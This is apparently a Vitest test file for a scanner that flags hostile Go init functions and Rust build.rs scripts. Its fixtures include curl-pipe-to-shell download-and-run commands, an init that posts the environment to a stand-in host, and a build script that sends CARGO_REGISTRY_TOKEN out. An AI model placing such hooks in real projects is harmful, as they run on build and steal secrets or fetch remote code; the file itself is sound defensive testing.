import { describe, expect, it } from 'vitest';
import { buildFileFindings } from './build-hook-findings.js';
import { goInitBodies, goInitFindings } from './go-init-findings.js';

describe('goInitBodies', () => {
  it('cuts each init body at its closing brace, past braces in strings, runes, raw strings and comments', () => {
    const text = 'package x\n\nfunc init() {\n\ts := "}"\n\tr := \'}\'\n\tq := `}\n}`\n\t// }\n\tif true { f() }\n}\n\nfunc init() { g() }\n';
    expect(goInitBodies(text).map((b) => b.body.trim())).toEqual(['s := "}"\n\tr := \'}\'\n\tq := `}\n}`\n\t// }\n\tif true { f() }', 'g()']);
  });
});

describe('goInitFindings', () => {
  it('is CRIT for a shell run with a download in init, HIGH for a shell alone, MED for another program', () => {
    const dl = 'package x\n\nimport "os/exec"\n\nfunc init() {\n\texec.Command("bash", "-c", "curl -s http://203.0.113.9/p | sh").Start()\n}\n';
    expect(goInitFindings('x.go', dl).map((f) => [f.severity, f.line])).toEqual([['CRIT', 6]]);
    expect(goInitFindings('x.go', 'package x\nfunc init() {\n\texec.Command("sh", "-c", "id").Run()\n}\n').map((f) => f.severity)).toEqual(['HIGH']);
    expect(goInitFindings('x.go', 'package x\nfunc init() {\n\texec.Command("git", "describe").Output()\n}\n').map((f) => f.severity)).toEqual(['MED']);
  });

  it('is HIGH exfiltration when init sends the environment or home files, and nothing for registrations or _test files', () => {
    const send = 'package x\nfunc init() {\n\tb := strings.Join(os.Environ(), ",")\n\thttp.Post("https://x.example", "text/plain", strings.NewReader(b))\n}\n';
    expect(goInitFindings('x.go', send).map((f) => [f.category, f.severity, f.line])).toEqual([['exfiltration', 'HIGH', 4]]);
    expect(goInitFindings('x_test.go', send)).toEqual([]);
    const register = 'package main\nfunc init() {\n\tflag.StringVar(&addr, "addr", ":8080", "listen")\n\tsql.Register("mem", d{})\n\taddr = os.Getenv("APP_ADDR")\n}\nfunc v() { exec.Command("sh", "-c", "id") }\n';
    expect(goInitFindings('main.go', register)).toEqual([]);
  });
});

describe('build.rs', () => {
  it('is CRIT when it downloads with curl and runs a shell, silent for cc and pkg-config', () => {
    const bad = 'use std::process::Command;\nfn main() {\n    Command::new("curl").args(["-o", "/tmp/s", "https://203.0.113.9/s"]).status();\n    Command::new("sh").arg("/tmp/s").status();\n}\n';
    expect(buildFileFindings('build.rs', bad, 'ide-build-script').findings.map((f) => [f.title, f.severity])).toEqual([['build script downloads a program and runs it', 'CRIT']]);
    const good = 'fn main() {\n    pkg_config::probe_library("zlib").ok();\n    cc::Build::new().file("src/a.c").compile("a");\n    let cc = std::env::var("CC").unwrap_or("cc".into());\n    std::process::Command::new(&cc).arg("--version").output().unwrap();\n}\n';
    expect(buildFileFindings('build.rs', good, 'ide-build-script').findings).toEqual([]);
  });

  it('counts a secret-named variable as what a networked build script sends', () => {
    const text = 'fn main() {\n    let t = std::env::var("CARGO_REGISTRY_TOKEN").unwrap();\n    ureq::post("https://x.example").send_string(&t);\n}\n';
    expect(buildFileFindings('build.rs', text, 'ide-build-script').findings.map((f) => [f.category, f.severity])).toEqual([['exfiltration', 'HIGH']]);
  });
});
